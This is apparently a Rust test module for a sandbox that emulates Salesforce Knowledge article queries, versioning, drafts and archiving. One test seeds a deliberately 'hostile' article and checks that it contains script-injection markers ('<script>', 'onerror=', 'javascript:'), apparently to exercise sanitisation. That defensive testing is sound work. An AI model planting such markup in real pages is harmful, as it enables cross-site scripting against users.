            data.validated = true;
            data.first_published = Some(first_publish);
            data.last_published = Some(published_at);
            data.master_version = master_id.clone();
            let made = if version == 1 { created } else { published_at };
            let id = insert(org, kb, &data, made, published_at);
            master_id.get_or_insert(id);
        }
        if draft_of_online {
            let mut data = make(DEFAULT_KNOWLEDGE_LANGUAGE, version + 1);
            data.title = format!("{} (updated)", data.title);
            data.first_published = Some(first_publish);
            data.last_published = Some(published_at);
            let at = published_at + 3 * 24 * 60 * MINUTE_MS;
            insert(org, kb, &data, at, at);
        }
    }
    (large_id, hostile_id)
}

#[cfg(test)]
mod tests {
    use axum::body::Bytes;
    use axum::http::header::AUTHORIZATION;
    use axum::http::{HeaderMap, HeaderValue, Method};

    use super::super::DEFAULT_SALESFORCE_ORG as ORG;
    use super::*;
    use crate::oauth::OAuthProvider;

    const HOST: &str = "acme.my.salesforce.com";

    fn token(state: &SandboxState) -> String {
        state
            .seed_grant(
                OAuthProvider::Salesforce,
                "salesforce-sandbox-client-id",
                None,
                &["api"],
            )
            .expect("grant")
            .access_token
    }

    /// Sends a GET through the whole dispatch (auth, counting, routing).
    async fn get_with(
        state: &SandboxState,
        token: &str,
        path_and_query: &str,
        headers: &[(&'static str, &str)],
    ) -> (StatusCode, Value) {
        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
            None => (path_and_query.to_owned(), None),
        };
        let mut map = HeaderMap::new();
        map.insert(
            AUTHORIZATION,
            HeaderValue::from_str(&format!("Bearer {token}")).unwrap(),
        );
        for (name, value) in headers {
            map.insert(*name, HeaderValue::from_str(value).unwrap());
        }
        let req = ProviderRequest {
            method: Method::GET,
            host: HOST.to_owned(),
            path,
            query,
            headers: map,
            body: Bytes::new(),
        };
        let response = crate::providers::dispatch(state, req).await;
        let status = response.status();
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        let body = if bytes.is_empty() {
            Value::Null
        } else {
            serde_json::from_slice(&bytes).unwrap()
        };
        (status, body)
    }

    fn soql_path(version: &str, soql: &str) -> String {
        let q: String = url::form_urlencoded::byte_serialize(soql.as_bytes()).collect();
        format!("/services/data/v{version}/query?q={q}")
    }

    async fn query(state: &SandboxState, token: &str, soql: &str) -> (StatusCode, Value) {
        get_with(state, token, &soql_path("60.0", soql), &[]).await
    }

    /// Follows `nextRecordsUrl` to the end: every page's records.
    async fn all_pages(state: &SandboxState, token: &str, soql: &str) -> Vec<Vec<Value>> {
        let (status, mut body) = query(state, token, soql).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let mut pages = Vec::new();
        loop {
            pages.push(body["records"].as_array().unwrap().clone());
            let Some(next) = body["nextRecordsUrl"].as_str().map(str::to_owned) else {
                assert_eq!(body["done"], true);
                return pages;
            };
            assert_eq!(body["done"], false);
            let (status, next_body) = get_with(state, token, &next, &[]).await;
            assert_eq!(status, StatusCode::OK, "{next_body}");
            body = next_body;
            assert!(pages.len() < 1000, "paging does not end");
        }
    }

    fn error_code(body: &Value) -> &str {
        body[0]["errorCode"].as_str().unwrap_or_default()
    }

    fn seeded(state: &SandboxState, articles: usize) -> KnowledgeSummary {
        state.seed_knowledge(
            ORG,
            KnowledgeSeed {
                articles,
                ..KnowledgeSeed::default()
            },
        )
    }

    #[test]
    fn seeding_is_deterministic_and_has_every_kind_of_version() {
        let a = SandboxState::new();
        let b = SandboxState::new();
        let seed = KnowledgeSeed {
            articles: 60,
            large_article: true,
            hostile_article: true,
            seed: 7,
            ..KnowledgeSeed::default()
        };
        let sa = a.seed_knowledge(ORG, seed.clone());
        let sb = b.seed_knowledge(ORG, seed);
        assert_eq!(sa, sb);
        assert_eq!(a.sf_kb_articles(ORG), b.sf_kb_articles(ORG));
        assert_eq!(sa.article_ids.len(), 60);
        assert_eq!(sa.languages, ["en_US", "fr", "de"]);
        // 60 articles: every 10th has a draft (3 never published, 3 with a newer draft),
        // every 5th (published) has an archived version 1, every 3rd is translated.
        assert_eq!(sa.unpublished_articles, 3);
        assert_eq!(sa.published_articles, 57);
        assert_eq!(sa.drafts, 6);
        assert!(sa.archived_versions >= 9, "{sa:?}");
        assert!(sa.online_translations >= 2 * 17, "{sa:?}");
        assert_eq!(
            sa.online_versions,
            sa.published_articles + sa.online_translations
        );
        let large = a
            .sf_kb_article(ORG, sa.large_article_id.as_deref().unwrap())
            .unwrap();
        let body = &large.online("en_US").unwrap().body;
        assert!(body.len() > DYNAMODB_ITEM_LIMIT, "{}", body.len());
        assert_eq!(body.chars().count(), RICH_TEXT_MAX);
        let hostile = a
            .sf_kb_article(ORG, sa.hostile_article_id.as_deref().unwrap())
            .unwrap();
        let body = &hostile.online("en_US").unwrap().body;
        assert!(
            body.contains("<script>") && body.contains("onerror=") && body.contains("javascript:")
        );
        // Ids: versions `ka0`, articles `kA0`; 18 characters with the case-safe suffix.
        let first = &a.sf_kb_articles(ORG)[0];
        assert!(first.article_id.starts_with("kA0") && first.article_id.len() == 18);
        assert!(first.versions.iter().all(|v| v.id.starts_with("ka0")));
        let articles = a.sf_kb_articles(ORG);
        let mut urls: Vec<&str> = articles
            .iter()
            .filter_map(|x| x.versions.first())
            .map(|v| v.url_name.as_str())
            .collect();
        let total = urls.len();
        urls.sort_unstable();
        urls.dedup();
        assert_eq!(urls.len(), total, "UrlName is unique");
    }

    #[tokio::test]
    async fn online_articles_page_through_next_records_url_ordered_by_last_published() {
        let state = SandboxState::new();
        let summary = seeded(&state, 2_500);
        let token = token(&state);
        let soql = "SELECT Id, KnowledgeArticleId, Title, Language, LastPublishedDate FROM Knowledge__kav WHERE PublishStatus = 'Online' ORDER BY LastPublishedDate, Id";
        let pages = all_pages(&state, &token, soql).await;
        assert!(pages.len() >= 2);
        assert_eq!(pages[0].len(), 2000);
        let rows: Vec<&Value> = pages.iter().flatten().collect();
        assert_eq!(rows.len(), summary.online_versions);
        let keys: Vec<(String, String)> = rows
            .iter()
            .map(|r| {
                (
                    r["LastPublishedDate"].as_str().unwrap().to_owned(),
                    r["Id"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        let mut sorted = keys.clone();
        sorted.sort();
        assert_eq!(keys, sorted, "ordered by LastPublishedDate, Id");
        assert_eq!(rows[0]["attributes"]["type"], "Knowledge__kav");
        // `>` on a date-time: only what was published after the cut.
        let cut = &keys[1000].0;
        let soql = format!(
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND LastPublishedDate > {cut} ORDER BY LastPublishedDate, Id"
        );
        let later: usize = all_pages(&state, &token, &soql)
            .await
            .iter()
            .map(Vec::len)
            .sum();
        assert_eq!(later, keys.iter().filter(|(t, _)| t > cut).count());
        assert!(later < rows.len());
        // One language only.
        let (status, body) = query(
            &state,
            &token,
            "SELECT COUNT() FROM Knowledge__kav WHERE PublishStatus = 'online' AND Language = 'fr'",
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let fr = rows.iter().filter(|r| r["Language"] == "fr").count();
        assert_eq!(body["totalSize"], fr);
        assert!(fr > 0);
    }

    #[tokio::test]
    async fn publish_status_or_an_id_filter_is_required() {
        let state = SandboxState::new();
        let summary = seeded(&state, 20);
        let token = token(&state);
        for soql in [
            "SELECT Id FROM Knowledge__kav",
            "SELECT Id FROM Knowledge__kav WHERE Language = 'en_US'",
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' OR Language = 'fr'",
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus IN ('Online', 'Draft')",
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus != 'Draft'",
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND PublishStatus = 'Draft'",
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND (Language = 'fr' OR PublishStatus = 'Draft')",
            "SELECT Id FROM Knowledge__kav WHERE NOT PublishStatus = 'Draft'",
        ] {
            let (status, body) = query(&state, &token, soql).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{soql}: {body}");
            assert_eq!(error_code(&body), "MALFORMED_QUERY", "{soql}");
            assert_eq!(body[0]["message"], PUBLISH_STATUS_RESTRICTION);
        }
        // An article's every version: by KnowledgeArticleId, no PublishStatus.
        let article = &summary.article_ids[4]; // the 5th: archived v1 + Online v2
        let (status, body) = query(
            &state,
            &token,
            &format!(
                "SELECT Id, PublishStatus, VersionNumber, IsLatestVersion FROM Knowledge__kav WHERE KnowledgeArticleId = '{article}' AND Language = 'en_US' ORDER BY VersionNumber"
            ),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        let records = body["records"].as_array().unwrap();
        assert_eq!(records.len(), 2, "{body}");
        assert_eq!(records[0]["PublishStatus"], "Archived");
        assert_eq!(records[0]["IsLatestVersion"], false);
        assert_eq!(records[1]["PublishStatus"], "Online");
        assert_eq!(records[1]["IsLatestVersion"], true);
        // Archived history as the guide queries it.
        let (status, body) = query(
            &state,
            &token,
            &format!(
                "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Archived' AND IsLatestVersion = false AND KnowledgeArticleId = '{article}'"
            ),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["totalSize"], 1);
        let (status, body) = query(
            &state,
            &token,
            &format!(
                "SELECT Id FROM Knowledge__kav WHERE Id IN ('{}')",
                summary.online_version_ids[0]
            ),
        )
        .await;
        assert_eq!(
            (status, body["totalSize"].clone()),
            (StatusCode::OK, json!(1))
        );
    }

    #[tokio::test]
    async fn before_api_47_language_is_required_and_only_online_versions_come_back() {
        let state = SandboxState::new();
        let summary = seeded(&state, 30);
        let token = token(&state);
        let (status, body) = get_with(
            &state,
            &token,
            &soql_path(
                "46.0",
                "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online'",
            ),
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
        assert_eq!(error_code(&body), "MALFORMED_QUERY");
        assert_eq!(body[0]["message"], LANGUAGE_RESTRICTION);
        let (status, body) = get_with(
            &state,
            &token,
            &soql_path(
                "46.0",
                "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND Language = 'en_US'",
            ),
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["totalSize"], summary.published_articles);
        // An id filter lifts the Language rule; without PublishStatus only Online comes.
        let article = &summary.article_ids[19]; // the 20th: published, with a draft
        let soql = format!(
            "SELECT Id, PublishStatus FROM Knowledge__kav WHERE KnowledgeArticleId = '{article}'"
        );
        let (status, body) = get_with(&state, &token, &soql_path("46.0", &soql), &[]).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["totalSize"], 1);
        assert_eq!(body["records"][0]["PublishStatus"], "Online");
        let (_, body) = get_with(&state, &token, &soql_path("60.0", &soql), &[]).await;
        // v47+: every status (it is also every 5th: an archived version 1).
        assert_eq!(body["totalSize"], 3, "{body}");
        // v47+: Language is optional.
        let (status, _) = query(
            &state,
            &token,
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Draft'",
        )
        .await;
        assert_eq!(status, StatusCode::OK);
    }

    #[tokio::test]
    async fn rich_text_cannot_be_filtered_or_sorted_and_shortens_batches() {
        let state = SandboxState::new();
        seeded(&state, 900);
        let token = token(&state);
        let (status, body) = query(
            &state,
            &token,
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND Answer__c LIKE '%x%'",
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(error_code(&body), "INVALID_FIELD");
        assert!(
            body[0]["message"]
                .as_str()
                .unwrap()
                .contains("field 'Answer__c' can not be filtered"),
            "{body}"
        );
        let (status, body) = query(
            &state,
            &token,
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' ORDER BY Question__c",
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(error_code(&body), "INVALID_FIELD");
        assert!(
            body[0]["message"]
                .as_str()
                .unwrap()
                .contains("can not be sorted"),
            "{body}"
        );
        let (status, body) = query(
            &state,
            &token,
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND VersionNumber > 1",
        )
        .await;
        assert_eq!(
            (status, error_code(&body)),
            (StatusCode::BAD_REQUEST, "INVALID_FIELD")
        );
        let (status, _) = query(
            &state,
            &token,
            "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND Summary != null ORDER BY Summary, VersionNumber",
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        // Two custom long text fields: 200 a page, even when more is asked for.
        let soql =
            "SELECT Id, Question__c, Answer__c FROM Knowledge__kav WHERE PublishStatus = 'Online'";
        let (status, body) = get_with(
            &state,
            &token,
            &soql_path("60.0", soql),
            &[("sforce-query-options", "batchSize=2000")],
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["records"].as_array().unwrap().len(), LONG_TEXT_BATCH);
        let next = body["nextRecordsUrl"].as_str().unwrap().to_owned();
        let (_, more) = get_with(
            &state,
            &token,
            &next,
            &[("sforce-query-options", "batchSize=2000")],
        )
        .await;
        assert_eq!(more["records"].as_array().unwrap().len(), LONG_TEXT_BATCH);
        let pages = all_pages(&state, &token, soql).await;
        let total: usize = pages.iter().map(Vec::len).sum();
        assert_eq!(total, body["totalSize"].as_u64().unwrap() as usize);
        assert!(pages.iter().all(|p| p.len() <= LONG_TEXT_BATCH));
    }

    #[tokio::test]
    async fn large_bodies_cut_pages_short() {
        let state = SandboxState::new();
        state.seed_knowledge(
            ORG,
            KnowledgeSeed {
                articles: 40,
                large_article: true,
                languages: Vec::new(),
                ..KnowledgeSeed::default()
            },
        );
        for _ in 0..9 {
            // More large articles: the first page cannot hold them all.
            let big = large_body();
            state
                .sf_kb_add_article(
                    ORG,
                    KbNewArticle {
                        title: "Release notes archive".to_owned(),
                        body: big,
                        publish: true,
                        ..KbNewArticle::default()
                    },
                )
                .unwrap();
        }
        let token = token(&state);
        let pages = all_pages(
            &state,
            &token,
            "SELECT Id, Answer__c FROM Knowledge__kav WHERE PublishStatus = 'Online' ORDER BY LastPublishedDate DESC",
        )
        .await;
        assert!(pages.len() >= 2, "{} pages", pages.len());
        assert!(pages[0].len() < 2000);
        let total: usize = pages.iter().map(Vec::len).sum();
        let online = state
            .sf_kb_articles(ORG)
            .iter()
            .filter(|a| a.online("en_US").is_some())
            .count();
        assert_eq!(total, online);
        // Without long text the same rows come in one page.
        assert_eq!(
            all_pages(
                &state,
                &token,
                "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online'"
            )
            .await
            .len(),
            1
        );
    }

    #[tokio::test]
    async fn knowledge_disabled_is_an_unknown_object() {
        let state = SandboxState::new();
        let token = token(&state);
        let soql = "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online'";
        let (status, body) = query(&state, &token, soql).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(error_code(&body), "INVALID_TYPE");
        let message = body[0]["message"].as_str().unwrap();
        assert!(
            message.contains("sObject type 'Knowledge__kav' is not supported."),
            "{message}"
        );
        assert!(message.contains("ERROR at Row:1:Column:16"), "{message}");
        seeded(&state, 5);
        assert_eq!(query(&state, &token, soql).await.0, StatusCode::OK);
        state.sf_kb_set_enabled(ORG, false);
        assert_eq!(
            error_code(&query(&state, &token, soql).await.1),
            "INVALID_TYPE"
        );
        let (status, _) = get_with(
            &state,
            &token,
            "/services/data/v60.0/sobjects/Knowledge__kav/describe",
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let (status, _) = get_with(
            &state,
            &token,
            "/services/data/v60.0/knowledgeManagement/settings",
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        state.sf_kb_set_enabled(ORG, true);
        assert_eq!(query(&state, &token, soql).await.0, StatusCode::OK);
        // The daily allowance still counts Knowledge queries.
        state.set_salesforce_api_limit(ORG, 1);
        let (status, body) = query(&state, &token, soql).await;
        assert_eq!(
            (status, error_code(&body)),
            (StatusCode::FORBIDDEN, "REQUEST_LIMIT_EXCEEDED")
        );
    }

    #[tokio::test]
    async fn publishing_a_new_version_archives_the_old_one() {
        let state = SandboxState::new();
        let summary = seeded(&state, 12);
        let token = token(&state);
        let article = summary.article_ids[2].clone(); // 3rd: translated into fr and de
        let before = state.sf_kb_article(ORG, &article).unwrap();
        let old = before.online("en_US").unwrap().clone();
        let old_fr = before.online("fr").unwrap().clone();
        let after = state
            .sf_kb_publish_new_version(
                ORG,
                &article,
                "en_US",
                KbChange {
                    title: Some("Resetting your password".to_owned()),
                    body: Some("<p>New steps.</p>".to_owned()),
                    ..KbChange::default()
                },
            )
            .unwrap();
        let new = after.online("en_US").unwrap();
        assert_ne!(new.id, old.id);
        assert_eq!(new.version_number, old.version_number + 1);
        assert_eq!(new.title, "Resetting your password");
        assert_eq!(new.url_name, old.url_name);
        assert!(new.system_modstamp > old.system_modstamp);
        let archived = after.versions.iter().find(|v| v.id == old.id).unwrap();
        assert_eq!(archived.publish_status, "Archived");
        assert!(!archived.is_latest_version);
        assert!(archived.archived_date.is_some());
        // Translations follow the master into the new version, flagged out of date.
        let fr = after.online("fr").unwrap();
        assert_ne!(fr.id, old_fr.id);
        assert_eq!(fr.version_number, new.version_number);
        assert_eq!(fr.master_version_id.as_deref(), Some(new.id.as_str()));
        assert_eq!(fr.title, old_fr.title);
        // Over HTTP: one Online en_US version of the article, the new one.
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id, Title, IsOutOfDate FROM Knowledge__kav WHERE PublishStatus = 'Online' AND KnowledgeArticleId = '{article}' AND Language = 'en_US'"),
        )
        .await;
        assert_eq!(body["totalSize"], 1);
        assert_eq!(body["records"][0]["Id"], new.id.as_str());
        // An incremental query sees the change.
        let (_, body) = query(
            &state,
            &token,
            &format!(
                "SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND SystemModstamp >= {}",
                new.system_modstamp
            ),
        )
        .await;
        assert_eq!(
            body["totalSize"], 3,
            "the new master and its two translations: {body}"
        );
        // A translation change: only that language's text, every version renewed.
        let again = state
            .sf_kb_publish_new_version(
                ORG,
                &article,
                "fr",
                KbChange {
                    title: Some("Réinitialiser votre mot de passe".to_owned()),
                    ..KbChange::default()
                },
            )
            .unwrap();
        assert_eq!(
            again.online("fr").unwrap().title,
            "Réinitialiser votre mot de passe"
        );
        assert_eq!(
            again.online("en_US").unwrap().title,
            "Resetting your password"
        );
        assert_eq!(
            again.online("en_US").unwrap().version_number,
            new.version_number + 1
        );
        // A new language adds a translation.
        let es = state
            .sf_kb_publish_new_version(ORG, &article, "es", KbChange::default())
            .unwrap_err();
        assert!(es.contains("not an active"), "{es}");
        assert!(state.sf_kb_add_language(ORG, "es"));
        let with_es = state
            .sf_kb_publish_new_version(
                ORG,
                &article,
                "es",
                KbChange {
                    title: Some("Restablecer tu contraseña".to_owned()),
                    ..KbChange::default()
                },
            )
            .unwrap();
        assert_eq!(
            with_es.online("es").unwrap().title,
            "Restablecer tu contraseña"
        );
        assert!(!with_es.online("es").unwrap().is_master_language);
        // Too long a body is refused.
        let err = state
            .sf_kb_publish_new_version(
                ORG,
                &article,
                "en_US",
                KbChange {
                    body: Some("x".repeat(RICH_TEXT_MAX + 1)),
                    ..KbChange::default()
                },
            )
            .unwrap_err();
        assert!(err.contains("too large"), "{err}");
    }

    #[tokio::test]
    async fn drafts_and_archiving() {
        let state = SandboxState::new();
        let summary = seeded(&state, 10);
        let token = token(&state);
        // A draft beside the Online version: Online stays Online and latest.
        let article = summary.article_ids[0].clone();
        let drafted = state
            .sf_kb_edit_as_draft(
                ORG,
                &article,
                KbChange {
                    title: Some("Draft title".to_owned()),
                    ..KbChange::default()
                },
            )
            .unwrap();
        let draft = drafted.draft().unwrap().clone();
        let online = drafted.online("en_US").unwrap().clone();
        assert!(draft.is_latest_version && online.is_latest_version);
        assert_eq!(draft.version_number, online.version_number + 1);
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND KnowledgeArticleId = '{article}' AND Language = 'en_US'"),
        )
        .await;
        assert_eq!(body["records"][0]["Id"], online.id.as_str());
        // Publishing publishes the draft, keeping its id.
        let published = state
            .sf_kb_publish_new_version(ORG, &article, "en_US", KbChange::default())
            .unwrap();
        assert_eq!(published.online("en_US").unwrap().id, draft.id);
        assert_eq!(published.online("en_US").unwrap().title, "Draft title");
        assert!(published.draft().is_none());
        // Archiving: the article leaves the Online set and shows as Archived.
        assert!(state.sf_kb_archive(ORG, &article));
        assert!(!state.sf_kb_archive(ORG, &article));
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND KnowledgeArticleId = '{article}'"),
        )
        .await;
        assert_eq!(body["totalSize"], 0);
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id, ArchivedDate, IsLatestVersion FROM Knowledge__kav WHERE PublishStatus = 'Archived' AND KnowledgeArticleId = '{article}' ORDER BY VersionNumber DESC"),
        )
        .await;
        assert_eq!(body["records"][0]["Id"], draft.id.as_str());
        assert_eq!(body["records"][0]["IsLatestVersion"], true);
        assert!(body["records"][0]["ArchivedDate"].is_string());
        let err = state
            .sf_kb_publish_new_version(ORG, &article, "en_US", KbChange::default())
            .unwrap_err();
        assert!(err.contains("archived"), "{err}");
        // A never-published draft article: only a Draft query finds it.
        let added = state
            .sf_kb_add_article(
                ORG,
                KbNewArticle {
                    title: "Brand new".to_owned(),
                    body: "<p>Soon.</p>".to_owned(),
                    ..KbNewArticle::default()
                },
            )
            .unwrap();
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id, VersionNumber FROM Knowledge__kav WHERE PublishStatus = 'Draft' AND KnowledgeArticleId = '{}'", added.article_id),
        )
        .await;
        assert_eq!(body["totalSize"], 1);
        assert_eq!(body["records"][0]["VersionNumber"], 1);
        let (_, body) = query(
            &state,
            &token,
            &format!("SELECT Id FROM Knowledge__kav WHERE PublishStatus = 'Online' AND KnowledgeArticleId = '{}'", added.article_id),
        )
        .await;
        assert_eq!(body["totalSize"], 0);
    }

    #[tokio::test]
    async fn describe_retrieve_and_settings() {
        let state = SandboxState::new();
        let summary = seeded(&state, 6);
        let token = token(&state);
        let (status, body) = get_with(
            &state,
            &token,
            "/services/data/v60.0/sobjects/Knowledge__kav/describe",
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{body}");
        assert_eq!(body["name"], "Knowledge__kav");
        assert_eq!(body["keyPrefix"], "ka0");
        let field = |name: &str| {
            body["fields"]
                .as_array()
                .unwrap()
                .iter()
                .find(|f| f["name"] == name)
                .unwrap()
                .clone()
        };
        let answer = field("Answer__c");
        assert_eq!(answer["type"], "textarea");
        assert_eq!(answer["extraTypeInfo"], "richtextarea");
        assert_eq!(answer["htmlFormatted"], true);
        assert_eq!(answer["filterable"], false);
        assert_eq!(answer["length"], RICH_TEXT_MAX);
        assert_eq!(field("Summary")["filterable"], true);
        assert_eq!(field("VersionNumber")["filterable"], false);
        assert_eq!(field("VersionNumber")["sortable"], true);
        assert_eq!(
            field("Language")["picklistValues"]
                .as_array()
                .unwrap()
                .len(),
            3
        );
        let id = &summary.online_version_ids[0];
        let (status, record) = get_with(
            &state,
            &token,
            &format!(
                "/services/data/v60.0/sobjects/Knowledge__kav/{id}?fields=Title,PublishStatus"
            ),
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{record}");
        assert_eq!(record["PublishStatus"], "Online");
        assert!(record.get("Answer__c").is_none());
        let (status, _) = get_with(
            &state,
            &token,
            "/services/data/v60.0/sobjects/Knowledge__kav/ka0Dn0000000000AAA",
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let (status, body) = get_with(
            &state,
            &token,
            "/services/data/v60.0/knowledgeManagement/settings",
            &[],
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(
            body,
            json!({"defaultLanguage": "en_US", "knowledgeEnabled": true, "languages": [
                {"active": true, "name": "en_US"}, {"active": true, "name": "fr"}, {"active": true, "name": "de"}
            ]})
        );
        // The generic sObject routes do not take Knowledge writes.
        let (status, _) = get_with(&state, &token, "/services/data/v60.0/sobjects/Knowledge__kav/updated?start=2024-01-01T00:00:00Z&end=2024-01-02T00:00:00Z", &[]).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
    }

    #[test]
    fn ten_thousand_articles_seed_quickly() {
        let state = SandboxState::new();
        let started = std::time::Instant::now();
        let summary = state.seed_knowledge(
            ORG,
            KnowledgeSeed {
                articles: 10_000,
                ..KnowledgeSeed::default()
            },
        );
        assert_eq!(summary.article_ids.len(), 10_000);
        // Generous for debug builds on a busy machine.
        assert!(
            started.elapsed() < std::time::Duration::from_secs(20),
            "{:?}",
            started.elapsed()
        );
        // Seeding again adds after the first batch.
        let more = seeded(&state, 10);
        assert_eq!(more.article_ids.len(), 10_010);
    }
}
